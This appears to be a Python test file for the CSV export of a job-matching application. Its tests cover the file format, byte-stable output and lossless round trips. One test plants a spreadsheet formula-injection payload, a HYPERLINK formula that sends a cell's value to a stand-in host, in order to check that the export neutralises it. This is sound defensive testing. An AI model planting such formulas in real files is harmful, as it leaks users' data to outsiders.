"""Export: the seven files back in the format, byte-stable, and a lossless round trip."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

from sqlalchemy import Table, delete, select
from sqlalchemy.orm import Session, sessionmaker

from matching.columns import ENTITIES
from matching.exchange import export_all, exporting, import_paths
from matching.store import models as m
from tests.matching.exchange.conftest import REGION_SMALL

Sessions = sessionmaker[Session]
MODELS = (
    m.Employer, m.Candidate, m.CandidateCompetence, m.CandidateOccupation, m.Vacancy,
    m.VacancyCompetence, m.Contact, m.Proposal, m.Placement,
)  # fmt: skip


def stored_state(sessions: Sessions) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every entity table, sorted; without ``updated_at``, which the database
    stamps (not part of the exchange format)."""
    with sessions() as session:
        state = {}
        for model in MODELS:
            table: Table = model.__table__  # type: ignore[assignment]
            rows = session.execute(select(*(c for c in table.c if c.name != "updated_at"))).all()
            state[table.name] = sorted(tuple(row) for row in rows)
        return state


def empty_store(sessions: Sessions) -> None:
    with sessions.begin() as session:
        for model in reversed(MODELS):
            session.execute(delete(model))


def export(sessions: Sessions, out: Path) -> dict[str, bytes]:
    with sessions() as session:
        export_all(session, out)
    return {path.name: path.read_bytes() for path in sorted(out.iterdir())}


def test_export_writes_every_file_in_the_format(sessions: Sessions, tmp_path: Path) -> None:
    import_paths(sessions, [REGION_SMALL])
    with sessions() as session:
        counts = export_all(session, tmp_path)
    assert counts == {
        "employers": 5, "candidates": 10, "vacancies": 6,
        "contacts": 6, "proposals": 5, "placements": 4, "instruments": 0, "programmes": 0,
        "enrolments": 0,
    }  # fmt: skip
    for name, entity in ENTITIES.items():
        with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        assert tuple(rows[0]) == entity.column_names
        ids = [
            tuple(row[entity.column_names.index(k)] for k in entity.id_columns) for row in rows[1:]
        ]
        assert ids == sorted(ids) and len(ids) == counts[name]
    candidates = {
        row["candidate_id"]: row for row in csv.DictReader((tmp_path / "candidates.csv").open())
    }
    k3 = candidates["K-0003"]  # imported as actief / ja / logistiek
    assert (k3["status"], k3["driving_licence"], k3["sector_preferences"]) == (
        "active",
        "true",
        "H",
    )
    assert candidates["K-0002"]["available_from"] == ""
    assert candidates["K-0002"]["competences"] == "heftruck rijden;orderpicken"


def test_export_is_byte_stable(sessions: Sessions, tmp_path: Path) -> None:
    import_paths(sessions, [REGION_SMALL])
    assert export(sessions, tmp_path / "a") == export(sessions, tmp_path / "b")


def test_round_trip_keeps_the_stored_state(sessions: Sessions, tmp_path: Path) -> None:
    import_paths(sessions, [REGION_SMALL])
    before = stored_state(sessions)
    first = export(sessions, tmp_path / "first")
    assert import_paths(sessions, [tmp_path / "first"]).total("unchanged") == 36
    empty_store(sessions)
    report = import_paths(sessions, [tmp_path / "first"])
    assert report.ok and report.total("inserted") == 36
    assert stored_state(sessions) == before
    assert export(sessions, tmp_path / "second") == first


def test_formulas_are_quoted_on_export_and_the_round_trip_keeps_them(
    sessions: Sessions, tmp_path: Path
) -> None:
    import_paths(sessions, [REGION_SMALL])
    names = {"28011111": '=HYPERLINK("http://x/?leak="&B2,"Klik")', "28022222": "'t Hof"}
    with sessions.begin() as session:
        for employer_id, name in names.items():
            session.get_one(m.Employer, employer_id).name = name
    before = stored_state(sessions)
    first = export(sessions, tmp_path / "first")
    employers = first["employers.csv"].decode()
    assert '\n28011111,"\'=HYPERLINK(""http://x/?leak=""&B2,""Klik"")",' in employers
    assert "28022222,'t Hof," in employers
    empty_store(sessions)
    assert import_paths(sessions, [tmp_path / "first"]).ok
    assert stored_state(sessions) == before
    assert export(sessions, tmp_path / "second") == first


def test_only_text_cells_are_quoted() -> None:
    assert (exporting._cell(-3), exporting._cell("-3"), exporting._cell(None)) == ("-3", "'-3", "")
